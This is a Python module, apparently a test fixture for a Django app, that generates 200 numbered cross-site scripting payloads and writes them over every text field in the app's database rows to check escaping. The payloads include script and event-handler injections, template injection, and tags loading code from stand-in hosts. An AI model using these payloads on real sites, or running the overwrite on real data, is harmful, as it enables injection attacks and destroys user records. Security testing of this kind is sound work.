"""Two hundred ways to smuggle a script into a page, put together from where it may break out and what it then does.

Each carries its number as ``xssN``, so that a page that runs one tells which.
"""

from __future__ import annotations

from itertools import cycle, islice, product

# What stands before it in the page: nothing, a value in quotes, a comment, a script, a style, a title, an attribute.
BREAK_OUT = ("", '">', "'>", "-->", "</script>", "</style>", "</title>", "</textarea>", "</option></select>", "]]>", '"', "' ", '\\">', "%22>", "&quot;>", "{{", "${", "\u2028", "\x00", "<!--")  # fmt: skip
DOES = (
    "<script>alert('xssN')</script>", "<ScRiPt src=//xssN.example></sCrIpT>", "<img src=x onerror=alert('xssN')>",
    "<svg onload=alert('xssN')>", "<svg><script xlink:href=data:,alert('xssN') /></svg>", "<iframe srcdoc='<script>alert(`xssN`)</script>'>",
    "<a href=javascript:alert('xssN')>xssN</a>", "<a href='java\tscript:alert(`xssN`)'>xssN</a>", "javascript:alert('xssN')//", "data:text/html,<script>alert('xssN')</script>",
    "<body onpageshow=alert('xssN')>", "<details open ontoggle=alert('xssN')>", "<input autofocus onfocus=alert('xssN')>", "onmouseover=alert('xssN') x=", "autofocus onfocus=alert('xssN') tabindex=1 x=",
    "<style>@import '//xssN.example'</style>", "<link rel=stylesheet href=//xssN.example>", "<base href=//xssN.example/>", "<meta http-equiv=refresh content='0;url=//xssN.example'>", "<form action=//xssN.example><button>xssN",
    "<object data=//xssN.example>", "<embed src=//xssN.example>", "<math><mtext><table><mglyph><style><img src=x onerror=alert('xssN')>", "<noscript><p title='</noscript><img src=x onerror=alert(`xssN`)>'>",
    "&lt;script&gt;alert('xssN')&lt;/script&gt;", "&#60;img src=x onerror=alert('xssN')&#62;", "\\u003cscript\\u003ealert('xssN')\\u003c/script\\u003e", "+ADw-script+AD4-alert('xssN')+ADw-/script+AD4-", "<xssN onclick=alert(1) contenteditable autofocus>", "{% debug %}{{ request.user.password }}xssN", "';alert('xssN');'", '";alert(`xssN`);"',
    "＜script＞alert('xssN')＜/script＞", "<<script>alert('xssN')//<</script>", "<img\x0csrc=x\x0conerror=alert('xssN')>", "<video><source onerror=alert('xssN')>", "<script type=module>alert('xssN')</script>", "<script type=application/json>xssN</script>", "<template><script>alert('xssN')</script></template>", "<marquee onstart=alert('xssN')>",
)  # fmt: skip


def two_hundred() -> list[str]:
    """Two hundred of the eight hundred pairs, every deed among them, each with its own number."""
    pairs = list(product(BREAK_OUT, DOES))
    # 61 shares no factor with 800, so no pair comes twice.
    spread = islice(cycle(pairs), 0, 200 * 61, 61)
    return [f"{out}{does}".replace("xssN", f"xss{number}") for number, (out, does) in enumerate(spread)]


def stuff(texts: list[str], done: set[object]) -> int:
    """Put ``texts`` into every field that holds words or names of people, in every row not in ``done`` yet. How many.

    A sealed field takes all of them; an open column as many as it has room for, others in the next row. It stands by
    itself, so that the server of a journey can run its source too.
    """
    from django.apps import apps

    open_fields = {
        "deliveries.Hub": ["name"], "exchange.Category": ["name", "skill"], "exchange.Cause": ["name"],
        "places.Area": ["name"], "networks.Network": ["name", "welcome", "closed_note"], "networks.Wording": ["text"],
    }  # fmt: skip
    # What nobody types: a sign-in name is checked, and these hold the key of a person.
    never_words = {"people.Person.login", "safety.Report.about", "safety.Report.written_by"}
    lists = {"exchange.Helper": ["skills", "languages"]}
    filled = 0
    for model in apps.get_models():
        if not model.__module__.startswith("manyhands."):
            continue
        sealed = [
            field.name for field in model._meta.concrete_fields
            if type(field).__name__ in {"SealedTextField", "SealedCharField"} and str(field) not in never_words
        ]  # fmt: skip
        plain, listed = open_fields.get(model._meta.label, []), lists.get(model._meta.label, [])
        for row in model._default_manager.all() if sealed or plain or listed else []:
            if (model._meta.label, row.pk) in done:
                continue
            done.add((model._meta.label, row.pk))
            for name in sealed:
                if getattr(row, name):
                    setattr(row, name, " ".join(texts))
            for name in plain:
                room, start = model._meta.get_field(name).max_length, (filled * 7) % len(texts)
                turned = [text.replace("\x00", "") for text in texts[start:] + texts[:start]]
                setattr(row, name, f"{filled} {' '.join(turned)}"[:room])
                filled += 1
            for name in listed:
                setattr(row, name, texts)
            row.save(update_fields=[*sealed, *plain, *listed])
            filled += len(sealed) + len(listed)
    return filled
